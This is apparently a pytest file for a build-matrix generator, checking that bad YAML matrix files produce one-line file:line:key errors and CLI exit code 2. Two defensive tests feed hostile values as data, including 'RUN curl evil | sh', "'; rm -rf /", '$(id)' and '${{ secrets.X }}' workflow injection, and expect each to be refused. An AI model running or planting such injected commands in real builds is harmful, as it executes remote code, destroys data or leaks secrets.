"""Bad matrix files: one line with file:line and key, exit status 2, never a traceback."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
import yaml
from helpers import matrix_dict

from generator.errors import UserError
from generator.matrix import parse_matrix
from generator.plan import build_plan

GOOD = yaml.safe_dump(matrix_dict(), sort_keys=False)


def error_of(text: str) -> str:
    with pytest.raises(UserError) as info:
        build_plan(parse_matrix(text, "m.yaml"))
    message = str(info.value)
    assert "\n" not in message
    return message


@pytest.mark.parametrize(("text", "expected"), [
    (GOOD.replace("targets:", "targest:"),
     "m.yaml:2: targest: unknown key 'targest' (did you mean 'targets'?)"),
    (GOOD.replace("  runs_on:", "  runs-on:"),
     "m.yaml:5: targets[0].runs-on: unknown key 'runs-on' (did you mean 'runs_on'?)"),
    (GOOD.replace("strategies:\n- wheel", "strategies:\n- wheels"),
     "m.yaml:15: strategies[0]: 'wheels' is not one of: wheel, pypi-sdist, source, none "
     "(did you mean 'wheel'?)"),
    (GOOD.replace("flash_attn:\n- 2.8.3", "flash_attn: 2.8.3"),
     "m.yaml:12: flash_attn: expected a list, got '2.8.3'"),
    (GOOD.replace("flash_attn:\n- 2.8.3", "flash_attn:\n- two.eight"),
     "m.yaml:13: flash_attn[0]: 'two.eight' is not a valid flash-attn version"),
    (GOOD.replace("gpu: L40", "gpu: L41"), "m.yaml:4: targets[0].gpu: unknown GPU 'L41'"),
    (GOOD.replace("image: pytorch/pytorch", "image: pytorch/pytorchh"),
     "no tag grammar is known for 'pytorch/pytorchh' (did you mean 'pytorch/pytorch'?)"),
    (GOOD.replace("2.7.1-cuda12.6-cudnn9-devel", "2.7.1-cuda12.6-devel"),
     "does not follow the pytorch/pytorch tag grammar"),
    (GOOD + "flash_attn: [2.8.3]\n", "m.yaml:16: flash_attn: duplicate key 'flash_attn'"),
    (GOOD.replace("flash_attn:\n- 2.8.3", "flash_attn:\n- 2.8.3\n- 2.8.3"),
     "m.yaml:14: flash_attn[1]: duplicate entry '2.8.3' (same as item 0)"),
    ("targets: [\n", "m.yaml:2: invalid YAML"),
    ("- a\n- b\n", "m.yaml:1: the matrix must be a mapping"),
    (GOOD.replace("schema_version: 1", "schema_version: 2"),
     "m.yaml:1: schema_version: '2' is not one of: 1"),
])
def test_one_line_errors_name_file_line_and_key(text, expected):
    assert expected in error_of(text)


@pytest.mark.parametrize("hostile", [
    "2.7.1-cuda12.6-cudnn9-devel\nRUN curl evil | sh",
    "${{ github.event.issue.title }}",
    "2.7.1'; rm -rf /",
    '2.7.1"devel',
    "2.7.1 devel",
    "$(id)",
])
def test_hostile_tags_are_refused(hostile):
    data = matrix_dict(bases=[{"image": "pytorch/pytorch", "tags": [hostile]}])
    message = error_of(yaml.safe_dump(data))
    assert "bases[0].tags[0]" in message and "not a valid image tag" in message


@pytest.mark.parametrize(("key", "value"), [
    ("name", "l40\nRUN x"), ("gpu", "${{ secrets.X }}"), ("runs_on", ["gpu", "a'b"]),
])
def test_hostile_target_values_are_refused(key, value):
    target = {"name": "l40", "gpu": "L40", "runs_on": ["gpu"], key: value}
    assert "targets[0]" in error_of(yaml.safe_dump(matrix_dict(targets=[target])))


def test_python_versions_stay_text_no_float_trap():
    data = matrix_dict(bases=[{"image": "nvidia/cuda", "tags": ["12.6.3-devel-ubuntu22.04"],
                               "python": ["3.10"]}], torch=["2.7.1"])
    text = yaml.safe_dump(data).replace("'3.10'", "3.10")
    assert "python:\n  - 3.10" in text or "- 3.10" in text
    plan = build_plan(parse_matrix(text, "m.yaml"))
    assert plan.variants[0].candidate.python == "3.10"


def test_cli_exit_2_for_empty_result_and_unknown_target(tmp_path):
    path = tmp_path / "m.yaml"
    path.write_text(GOOD + "exclude:\n- {strategy: wheel}\n")
    result = subprocess.run([sys.executable, "-m", "generator", "plan", "--matrix", str(path)],
                            capture_output=True, text=True)
    assert result.returncode == 2
    assert "excluded" in result.stdout
    assert result.stderr.strip() == f"gen: error: {path}:1: no candidate is kept: every one "\
        "was pruned (see the reasons above)"
    path.write_text(GOOD)
    result = subprocess.run([sys.executable, "-m", "generator", "plan", "--matrix", str(path),
                             "--target", "l4o"], capture_output=True, text=True)
    assert result.returncode == 2
    assert "no target 'l4o' (did you mean 'l40'?)" in result.stderr
    assert "Traceback" not in result.stderr


def test_target_filter_and_formats(tmp_path, repo_root):
    for fmt in ("table", "json", "markdown"):
        result = subprocess.run([sys.executable, "-m", "generator", "plan", "--format", fmt,
                                 "--target", "l40", "--matrix", str(repo_root / "matrix.yaml")],
                                capture_output=True, text=True)
        assert result.returncode == 0, result.stderr
        if fmt == "json":
            assert {v["target"] for v in json.loads(result.stdout)["variants"]} == {"l40"}
        if fmt == "markdown":
            assert result.stdout.startswith("# Candidate variants")
